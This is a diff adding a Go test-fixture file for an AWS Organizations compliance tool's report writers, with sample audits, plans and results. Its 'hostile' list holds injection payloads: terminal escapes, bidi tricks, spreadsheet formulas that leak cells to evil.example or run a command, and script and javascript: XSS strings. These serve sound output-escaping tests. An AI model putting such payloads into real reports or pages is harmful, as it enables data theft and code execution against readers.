@@ -1,0 +1,289 @@
+package reports
+
+import (
+	"bytes"
+	"fmt"
+	"testing"
+	"time"
+
+	"github.com/orgguard/orgguard/orgs/finding"
+	"github.com/orgguard/orgguard/orgs/plan"
+)
+
+var generated = time.Date(2026, 3, 14, 18, 26, 53, 589793238, time.FixedZone("JST", 9*3600))
+
+var testOrganization = Organization{
+	ID: "o-a1b2c3d4e5", ManagementAccount: "100000000001", Accounts: 14,
+	Regions: []string{"ap-northeast-1", "us-east-1"},
+}
+
+// driftAudit is what an audit says after somebody has tampered with three things.
+func driftAudit() Audit {
+	fs := []finding.Finding{
+		{
+			Account: "300000000001", AccountName: "shop-prod", OUPath: "Root/Workloads/Prod",
+			Region: "ap-northeast-1", Control: "config-recorder", Resource: "default",
+			Status: finding.Drift, Severity: finding.Critical, Reason: "the recorder is stopped",
+			Expected: map[string]any{"recording": true}, Actual: map[string]any{"recording": false},
+			Fix: "orgguard rollout --account 300000000001 --control config-recorder",
+		},
+		{
+			Account: "300000000004", AccountName: "shop-dev", OUPath: "Root/Workloads/Dev",
+			Region: "us-east-1", Control: "config-change-alert", Resource: "orgguard-config-change",
+			Status: finding.Drift, Severity: finding.High,
+			Reason:   "the rule is DISABLED, so nobody is told when AWS Config is changed",
+			Expected: map[string]any{"state": "ENABLED"}, Actual: map[string]any{"state": "DISABLED"},
+			Fix: "orgguard rollout --account 300000000004 --control config-change-alert",
+		},
+		{
+			Account: "300000000004", AccountName: "shop-dev", OUPath: "Root/Workloads/Dev",
+			Region: "us-east-1", Control: "config-change-alert", Resource: "orgguard-config-change",
+			Status: finding.Drift, Severity: finding.Medium,
+			Reason: "CloudFormation says the stack instance is CURRENT, the account says otherwise",
+			Fix:    "orgguard rollout --account 300000000004 --control config-change-alert",
+		},
+		{
+			Account: "500000000001", AccountName: "sandbox-1", OUPath: "Root/Sandbox",
+			Region: finding.Global, Control: "scp-protect-config", Resource: "orgguard-protect-config",
+			Status: finding.Drift, Severity: finding.High,
+			Reason: "the policy is attached to none of the account's parents",
+			Fix:    "orgguard rollout --control scp-protect-config",
+		},
+		{
+			Account: "600000000001", AccountName: "old-project", OUPath: "Root/Suspended",
+			Region: "ap-northeast-1", Control: "config-recorder",
+			Status: finding.Exempt, Reason: "closed next month",
+		},
+		{
+			Account: "500000000003", AccountName: "legacy-lab", OUPath: "Root/Sandbox",
+			Region: "ap-northeast-1", Control: "config-delivery", Resource: "legacy-channel",
+			Status: finding.Exempt, Severity: finding.Medium, Reason: "migrates in April; owner: lab team",
+			Expected: map[string]any{"bucket": "config-logs"}, Actual: map[string]any{"bucket": "lab-logs"},
+		},
+	}
+	for _, region := range []string{"ap-northeast-1", "us-east-1", finding.Global} {
+		for _, control := range []string{"config-change-alert", "config-delivery", "config-recorder", "root-signin-alert"} {
+			fs = append(fs, finding.Finding{
+				Account: "300000000003", AccountName: "data-prod", OUPath: "Root/Workloads/Prod",
+				Region: region, Control: control, Status: finding.NotAssessed, Severity: finding.High,
+				Reason: "the role OrganizationAccountAccessRole cannot be assumed: AccessDenied: User: " +
+					"arn:aws:iam::100000000001:user/auditor is not authorized to perform: sts:AssumeRole on resource: " +
+					"arn:aws:iam::300000000003:role/OrganizationAccountAccessRole",
+				Fix: "let OrganizationAccountAccessRole trust 100000000001, or name another role in organization.access_role",
+			})
+		}
+	}
+	finding.Sort(fs)
+	s := finding.Summarize(fs)
+	s.Add(finding.InSync, 118)
+	s.Add(finding.NotApplicable, 4)
+	return Audit{
+		GeneratedAt: generated, ToolVersion: "v0.1.0", Organization: testOrganization,
+		Summary: s, Findings: fs, Next: "orgguard plan",
+	}
+}
+
+func cleanAudit() Audit {
+	return Audit{
+		GeneratedAt: generated, ToolVersion: "v0.1.0", Organization: testOrganization,
+		Summary: finding.Summary{InSync: 144}, Next: "orgguard schedule install",
+	}
+}
+
+// largeAudit has more rows than a table shows.
+func largeAudit() Audit {
+	a := driftAudit()
+	a.Organization.Accounts = 1200
+	severities := []finding.Severity{finding.Critical, finding.High, finding.Medium, finding.Low}
+	for i := range 600 {
+		f := finding.Finding{
+			Account: fmt.Sprintf("7%011d", i), AccountName: fmt.Sprintf("team-%03d", i), OUPath: "Root/Teams",
+			Region: testOrganization.Regions[i%2], Control: []string{"config-recorder", "guardduty"}[i%2],
+			Resource: "default", Status: finding.Drift, Severity: severities[i%4], Reason: "it is off",
+		}
+		a.Findings = append(a.Findings, f)
+		a.Summary.Add(f.Status, 1)
+	}
+	return a
+}
+
+// hostile are texts that others could choose.
+var hostile = []string{
+	"\x1b[2J\x1b]0;owned\x07\x1b[31mred",
+	"c1 \u009b31m csi",
+	"line\nbreak\r\nand\ttab and \x00 nul and \x7f del",
+	"rtl \u202etxt.exe\u202c and \u2066isolate\u2069",
+	"zero\u200bwidth\u200djoin\ufeffbom\u2028sep",
+	"not utf-8 \xff\xfe\xc0\xaf",
+	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+	"+cmd|' /C calc'!A0",
+	"-2+3", "@SUM(1+1)", "＝1+1", "a;=1+1", "\t=1", "  =1",
+	"<script>alert(1)</script><img src=x onerror=alert(1)>",
+	"![img](http://evil.example/x.png) [link](javascript:alert(1)) https://evil.example www.evil.example",
+	"@everyone @octocat #1 owner/repo#2 a@b.example",
+	"| a | b |\\| c `code` ``more`` <!-- -->",
+	"**bold** __under__ ~~gone~~ # head $x$ &amp; &#64;",
+	"日本語のアカウント名前 全角 👩‍👩‍👧 e\u0301 Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358",
+	"\u3164\u115f\u2800",
+	string(bytes.Repeat([]byte("long-word/"), 400)),
+	string(bytes.Repeat([]byte("x"), 5000)),
+}
+
+// hostileAudit has every hostile text in every place that others fill.
+func hostileAudit() Audit {
+	a := driftAudit()
+	for i, h := range hostile {
+		for _, status := range []finding.Status{finding.Drift, finding.NotAssessed, finding.Exempt} {
+			f := finding.Finding{
+				Account: fmt.Sprintf("9%011d", i), AccountName: h, OUPath: "Root/" + h,
+				Region: "us-east-1", Control: "config-recorder", Resource: h,
+				Status: status, Severity: finding.High, Reason: "it is " + h,
+				Expected: h, Actual: map[string]any{h: []string{h}}, Fix: "rename " + h,
+			}
+			a.Findings = append(a.Findings, f)
+			a.Summary.Add(status, 1)
+		}
+	}
+	return a
+}
+
+func testPlan() plan.Plan {
+	const management, security = "100000000001", "200000000001"
+	return plan.Plan{
+		GeneratedAt: generated, ToolVersion: "v0.1.0", Organization: "o-a1b2c3d4e5", Accounts: 14,
+		Regions: []string{"ap-northeast-1", "us-east-1"},
+		Changes: []plan.Change{
+			{
+				Kind: "trusted-access", Stage: plan.Prerequisites, Verb: plan.Enable, Control: "config-recorder",
+				Account: management, AccountName: "management", Region: finding.Global,
+				Resource: "member.org.stacksets.cloudformation.amazonaws.com", Cells: 1,
+				Why:  "StackSets cannot deploy to member accounts without trusted access",
+				Undo: "aws organizations disable-aws-service-access --service-principal member.org.stacksets.cloudformation.amazonaws.com",
+			},
+			{
+				Kind: "stack", Stage: plan.Central, Verb: plan.Create, Control: "config-delivery,alert-topic",
+				Account: security, AccountName: "security", Region: "ap-northeast-1", Resource: "orgguard-central", Cells: 1,
+				Why: "the log bucket, the alert bus and the topic live here",
+			},
+			{
+				Kind: "stack-set", Stage: plan.Baseline, Verb: plan.Create, Control: "config-recorder,config-delivery",
+				Account: management, AccountName: "management", Region: "ap-northeast-1", Resource: "orgguard-config",
+				Cells: 22, Why: "11 accounts have no recorder",
+				Targets: []string{"300000000001/ap-northeast-1", "300000000001/us-east-1"},
+			},
+			{
+				Kind: "recorder", Stage: plan.Repairs, Verb: plan.Repair, Control: "config-recorder",
+				Account: "500000000003", AccountName: "legacy-lab", Region: "ap-northeast-1", Resource: "legacy-recorder",
+				Cells: 1, Why: "the recorder is adopted, and records too little",
+				Before: map[string]any{"allSupported": false, "recording": true, "resourceTypes": []string{"AWS::EC2::Instance"}},
+				After:  map[string]any{"allSupported": true, "recording": true},
+			},
+			{
+				Kind: "scp", Stage: plan.Guardrail, Verb: plan.Attach, Control: "scp-protect-config",
+				Account: management, AccountName: "management", Region: finding.Global,
+				Resource: "orgguard-protect-config", Cells: 13, Why: "attached to Root", After: "r-ab12",
+			},
+		},
+		Skipped: []plan.Skip{
+			{Account: "600000000001", AccountName: "old-project", Region: "ap-northeast-1", Control: "config-recorder", Reason: "the account is SUSPENDED"},
+			{Account: "600000000001", AccountName: "old-project", Region: "us-east-1", Control: "config-recorder", Reason: "the account is SUSPENDED"},
+			{Account: "300000000003", AccountName: "data-prod", Region: "ap-northeast-1", Control: "config-recorder", Reason: "OrganizationAccountAccessRole cannot be assumed", Blocked: true},
+			{Account: "300000000003", AccountName: "data-prod", Region: "us-east-1", Control: "config-recorder", Reason: "OrganizationAccountAccessRole cannot be assumed", Blocked: true},
+		},
+		Notes: []string{"Everybody in alerts.email gets a mail from AWS and has to confirm it."},
+	}
+}
+
+// hostilePlan has every hostile text in every place that others fill.
+func hostilePlan() plan.Plan {
+	p := testPlan()
+	for _, h := range hostile {
+		p.Changes = append(p.Changes, plan.Change{
+			Kind: "recorder", Stage: plan.Guardrail, Verb: plan.Repair, Control: "config-recorder", Account: "900000000001",
+			AccountName: h, Region: "us-east-1", Resource: h, Why: h, Targets: []string{"900000000001/us-east-1"}, Before: map[string]any{h: h, "a": 1}, After: map[string]any{h: 1},
+		})
+		p.Skipped = append(p.Skipped, plan.Skip{Account: "900000000001", AccountName: h, Region: "us-east-1", Control: "config-recorder", Reason: h})
+		p.Notes = append(p.Notes, h)
+	}
+	return p
+}
+
+func testResult() plan.Result {
+	c := testPlan().Changes
+	return plan.Result{Outcomes: []plan.Outcome{
+		{Change: c[0], Took: 1234 * time.Millisecond},
+		{Change: c[1], Took: 41 * time.Second},
+		{
+			Change: c[2], Took: 3 * time.Minute, Err: "2 of 22 stack instances failed", Hint: "repair the accounts below, then orgguard rollout goes on from here",
+			Failures: []plan.Failure{
+				{
+					Account: "300000000003", AccountName: "data-prod", Region: "us-east-1", Status: "FAILED",
+					Reason: "Account 300000000003 should have 'stacksets-exec-1f0e' role with trust relationship to CloudFormation service.",
+					Fix:    "ask the account's owner for the role, or move the account to where trusted access makes it",
+				},
+				{
+					Account: "500000000002", AccountName: "sandbox-2", Region: "us-east-1", Status: "FAILED",
+					Reason: "ResourceLogicalId:Recorder, ResourceType:AWS::Config::ConfigurationRecorder, " +
+						"ResourceStatusReason:Failed to put configuration recorder because the maximum number of recorders: 1 is reached.",
+					Fix: "orgguard plan --account 500000000002",
+				},
+			},
+		},
+		{Change: c[3], Skipped: true},
+		{Change: c[4], Skipped: true},
+	}}
+}
+
+func hostileResult() plan.Result {
+	r := testResult()
+	for _, h := range hostile {
+		c := hostilePlan().Changes[0]
+		c.Resource, c.AccountName = h, h
+		r.Outcomes = append(r.Outcomes, plan.Outcome{
+			Change: c, Err: h, Hint: h,
+			Failures: []plan.Failure{{Account: "900000000001", AccountName: h, Region: "us-east-1", Status: h, Reason: h, Fix: h}},
+		}, plan.Outcome{Change: c, Skipped: true}, plan.Outcome{Change: c})
+	}
+	return r
+}
+
+// everything that is written, by name, in every format that can.
+func writings() map[string]func(Style) ([]byte, error) {
+	out := map[string]func(Style) ([]byte, error){}
+	write := func(f func(*bytes.Buffer, Style) error) func(Style) ([]byte, error) {
+		return func(s Style) ([]byte, error) {
+			var b bytes.Buffer
+			err := f(&b, s)
+			return b.Bytes(), err
+		}
+	}
+	for _, f := range Formats() {
+		for name, a := range map[string]Audit{
+			"drift": driftAudit(), "clean": cleanAudit(), "large": largeAudit(), "hostile": hostileAudit(), "empty": {},
+		} {
+			out["audit-"+name+"."+string(f)] = write(func(b *bytes.Buffer, s Style) error { return Write(b, f, s, a) })
+		}
+	}
+	for _, f := range PlanFormats() {
+		for name, p := range map[string]plan.Plan{"plan": testPlan(), "plan-hostile": hostilePlan(), "plan-empty": {}} {
+			out[name+"."+string(f)] = write(func(b *bytes.Buffer, s Style) error { return WritePlan(b, f, s, p) })
+		}
+		for name, r := range map[string]plan.Result{"result": testResult(), "result-hostile": hostileResult(), "result-empty": {}} {
+			out[name+"."+string(f)] = write(func(b *bytes.Buffer, s Style) error { return WriteResult(b, f, s, r) })
+		}
+	}
+	return out
+}
+
+func mustWrite(t *testing.T, name string, s Style) []byte {
+	t.Helper()
+	f, ok := writings()[name]
+	if !ok {
+		t.Fatalf("nothing writes %s", name)
+	}
+	b, err := f(s)
+	if err != nil {
+		t.Fatalf("%s: %v", name, err)
+	}
+	return b
+}
